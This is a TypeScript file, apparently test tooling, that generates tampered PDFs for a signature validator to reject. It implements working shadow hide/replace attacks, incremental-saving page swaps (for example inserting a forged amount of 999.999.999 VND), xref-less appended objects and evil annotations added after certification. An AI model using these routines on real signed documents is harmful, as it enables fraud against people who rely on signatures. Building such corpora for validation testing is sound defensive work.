/**
 * Builds the attack corpus the validator must reject, from honest signed files: universal
 * signature forgery, incremental saving, signature wrapping, shadow hide / replace /
 * hide-and-replace, evil annotation and sneaky signature after certification. Each attack is
 * made the way the published attacks make them (the PDF Insecurity work), on real files.
 */
import { readFile, writeFile } from 'node:fs/promises';
import { IncrementalUpdate } from '../../src-core/pdf/incremental-writer.js';
import type { PdfObject, PdfRef } from '../../src-core/pdf/objects.js';
import { PdfDict, PdfName, PdfStream, PdfString, isArray, isRef } from '../../src-core/pdf/objects.js';
import { PdfReader } from '../../src-core/pdf/reader.js';

/** Appends an update built by `edit` to `input`, writing `output` (no signature). */
export async function appendUpdate(
  input: string,
  output: string,
  edit: (r: PdfReader, u: IncrementalUpdate) => void,
): Promise<void> {
  const r = PdfReader.open(input);
  try {
    const u = new IncrementalUpdate(r);
    edit(r, u);
    const built = u.build();
    await writeFile(output, Buffer.concat([await readFile(input), built.bytes]));
  } finally {
    r.close();
  }
}

/** Replaces bytes in place (same length), e.g. to corrupt /Contents or rename /ByteRange. */
export async function patchSameLength(
  input: string,
  output: string,
  find: string | RegExp,
  replace: (m: string) => string,
): Promise<void> {
  const s = (await readFile(input)).toString('latin1');
  const re = typeof find === 'string' ? new RegExp(find.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')) : find;
  const m = re.exec(s);
  if (!m) throw new Error(`pattern ${String(find)} not found`);
  const rep = replace(m[0]);
  if (rep.length !== m[0].length) throw new Error('replacement must keep the length');
  await writeFile(output, Buffer.from(s.slice(0, m.index) + rep + s.slice(m.index + m[0].length), 'latin1'));
}

/** Incremental saving: the page content replaced in a later revision (with a new xref). */
export async function changePageContent(input: string, output: string): Promise<void> {
  await appendUpdate(input, output, (r, u) => {
    const page = r.pageAt(0)!;
    const content = u.allocate();
    u.set(
      content,
      new PdfStream(new PdfDict(), {
        kind: 'bytes',
        data: Buffer.from('BT /F1 24 Tf 72 500 Td (SO TIEN: 999.999.999 VND) Tj ET'),
      }),
    );
    const copy = page.dict.clone();
    copy.set('Contents', content);
    u.set(page.ref, copy);
  });
}

/**
 * Incremental saving without a new xref: objects redefined after %%EOF with no xref section;
 * lenient viewers that scan for objects show the new page, a strict reader sees trailing junk.
 */
export async function appendWithoutXref(input: string, output: string): Promise<void> {
  const r = PdfReader.open(input);
  const page = r.pageAt(0)!;
  const contents = page.dict.get('Contents');
  r.close();
  const num = isRef(contents) ? contents.num : isArray(contents) && isRef(contents[0]) ? contents[0].num : 1;
  const body = 'BT /F1 24 Tf 72 500 Td (SO TIEN: 999.999.999 VND) Tj ET';
  const extra = `\n${num} 0 obj\n<< /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\n`;
  await writeFile(output, Buffer.concat([await readFile(input), Buffer.from(extra, 'latin1')]));
}

/** An annotation in a later revision (evil annotation after certification). */
export async function addFreeTextAnnotation(input: string, output: string): Promise<void> {
  await appendUpdate(input, output, (r, u) => {
    const page = r.pageAt(0)!;
    const ap = u.allocate();
    u.set(
      ap,
      new PdfStream(
        new PdfDict()
          .set('Type', PdfName.of('XObject'))
          .set('Subtype', PdfName.of('Form'))
          .set('BBox', [0, 0, 300, 40]),
        {
          kind: 'bytes',
          data: Buffer.from('1 1 1 rg 0 0 300 40 re f'),
        },
      ),
    );
    const annot = u.allocate();
    u.set(
      annot,
      new PdfDict()
        .set('Type', PdfName.of('Annot'))
        .set('Subtype', PdfName.of('FreeText'))
        .set('Rect', [72, 480, 372, 520])
        .set('Contents', PdfString.fromText('Đã thay đổi'))
        .set('DA', new PdfString(Buffer.from('/Helv 12 Tf 0 g')))
        .set('F', 4)
        .set('AP', new PdfDict().set('N', ap)),
    );
    appendAnnot(r, u, page.ref, page.dict, annot);
  });
}

function appendAnnot(r: PdfReader, u: IncrementalUpdate, pageRef: PdfRef, pageDict: PdfDict, annot: PdfRef): void {
  const existing = pageDict.get('Annots');
  if (isRef(existing)) {
    const arr = r.resolveValue(existing);
    u.set(existing, [...(isArray(arr) ? arr : []), annot]);
  } else {
    const copy = pageDict.clone();
    copy.set('Annots', [...(isArray(existing) ? existing : []), annot]);
    u.set(pageRef, copy);
  }
}

/**
 * Shadow attacks: before signing, plant an object the signed revision does not use; after
 * signing, bring it in by changing only references.
 *   plant(): revision 1 adds an unreferenced overlay annotation and an alternative content stream;
 *   hide():  later revision appends the planted annotation to /Annots (covers text);
 *   replace(): later revision points the page /Contents at the planted stream;
 *   hideAndReplace(): later revision's xref re-points the page's content object number at a
 *     planted second definition of that same object (no visible object change in the update body).
 */
export async function plantShadowObjects(
  input: string,
  output: string,
): Promise<{ annot: PdfRef; content: PdfRef; shadowOffsetFor: number }> {
  const r = PdfReader.open(input);
  const page = r.pageAt(0)!;
  const contents = page.dict.get('Contents');
  const contentNum = isRef(contents) ? contents.num : isArray(contents) && isRef(contents[0]) ? contents[0].num : -1;
  r.close();
  let annot!: PdfRef;
  let content!: PdfRef;
  await appendUpdate(input, output, (rr, u) => {
    const ap = u.allocate();
    u.set(
      ap,
      new PdfStream(
        new PdfDict()
          .set('Type', PdfName.of('XObject'))
          .set('Subtype', PdfName.of('Form'))
          .set('BBox', [0, 0, 500, 200]),
        { kind: 'bytes', data: Buffer.from('1 1 1 rg 0 0 500 200 re f') },
      ),
    );
    annot = u.allocate();
    u.set(
      annot,
      new PdfDict()
        .set('Type', PdfName.of('Annot'))
        .set('Subtype', PdfName.of('Square'))
        .set('Rect', [50, 400, 550, 600])
        .set('F', 4)
        .set('AP', new PdfDict().set('N', ap)),
    );
    content = u.allocate();
    u.set(
      content,
      new PdfStream(new PdfDict(), {
        kind: 'bytes',
        data: Buffer.from('BT /F1 24 Tf 72 500 Td (NOI DUNG GIA MAO) Tj ET'),
      }),
    );
    void rr;
  });
  // A second definition of the page's content object, outside any xref, for hide-and-replace.
  const body = 'BT /F1 24 Tf 72 500 Td (NOI DUNG GIA MAO) Tj ET';
  const before = await readFile(output);
  const planted = Buffer.from(
    `${contentNum} 0 obj\n<< /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\n`,
    'latin1',
  );
  // Put it inside the last revision, before its xref: rewrite by inserting before "xref"/"trailer" would shift offsets,
  // so instead add it as the body of yet another (unsigned) revision whose xref does not list it.
  const s = before.toString('latin1');
  const lastStart = s.lastIndexOf('startxref');
  const prev = /startxref\s+(\d+)/.exec(s.slice(lastStart))![1]!;
  const offset = before.length + 1;
  const trailerSrc = PdfReader.open(output);
  const size = trailerSrc.size;
  const root = trailerSrc.rootRef;
  trailerSrc.close();
  const xrefPos = offset + planted.length;
  const tail = Buffer.from(
    `xref\n0 0\ntrailer\n<< /Size ${size} /Root ${root.num} ${root.gen} R /Prev ${prev} >>\nstartxref\n${xrefPos}\n%%EOF\n`,
    'latin1',
  );
  await writeFile(output, Buffer.concat([before, Buffer.from('\n'), planted, tail]));
  return { annot, content, shadowOffsetFor: offset };
}

export async function shadowHide(signed: string, output: string, annot: PdfRef): Promise<void> {
  await appendUpdate(signed, output, (r, u) => {
    const page = r.pageAt(0)!;
    appendAnnot(r, u, page.ref, page.dict, annot);
  });
}

export async function shadowReplace(signed: string, output: string, content: PdfRef): Promise<void> {
  await appendUpdate(signed, output, (r, u) => {
    const page = r.pageAt(0)!;
    const copy = page.dict.clone();
    copy.set('Contents', content);
    u.set(page.ref, copy);
  });
}

/** Only an xref + trailer: object N now points at the planted definition. */
export async function shadowHideAndReplace(signed: string, output: string, shadowOffset: number): Promise<void> {
  const r = PdfReader.open(signed);
  const page = r.pageAt(0)!;
  const contents = page.dict.get('Contents');
  const num = isRef(contents) ? contents.num : isArray(contents) && isRef(contents[0]) ? contents[0].num : -1;
  const size = r.size;
  const root = r.rootRef;
  const prev = r.startxref;
  r.close();
  const base = await readFile(signed);
  const xrefPos = base.length;
  const tail = `xref\n${num} 1\n${String(shadowOffset).padStart(10, '0')} 00000 n\r\ntrailer\n<< /Size ${size} /Root ${root.num} ${root.gen} R /Prev ${prev} >>\nstartxref\n${xrefPos}\n%%EOF\n`;
  await writeFile(output, Buffer.concat([base, Buffer.from(tail, 'latin1')]));
}

/** Form filling in a later revision: sets /V of the text field with this fully qualified name. */
export async function fillTextField(input: string, output: string, name: string, value: string): Promise<void> {
  await appendUpdate(input, output, (r, u) => {
    const acro = r.dictOf(r.catalog().get('AcroForm'));
    const found = findField(r, acro?.get('Fields'), name, '');
    if (!found) throw new Error(`field ${name} not found`);
    const copy = found.dict.clone();
    copy.set('V', PdfString.fromText(value));
    u.set(found.ref, copy);
  });
}

function findField(
  r: PdfReader,
  list: PdfObject | undefined,
  name: string,
  prefix: string,
): { ref: PdfRef; dict: PdfDict } | null {
  const arr = r.resolveValue(list);
  if (!isArray(arr)) return null;
  for (const item of arr) {
    const d = r.dictOf(item);
    if (!d || !isRef(item)) continue;
    const t = r.resolveValue(d.get('T'));
    const full = t instanceof PdfString ? (prefix ? `${prefix}.${t.text()}` : t.text()) : prefix;
    if (full === name && d.has('FT')) return { ref: item, dict: d };
    const inKids = findField(r, d.get('Kids'), name, full);
    if (inKids) return inKids;
  }
  return null;
}
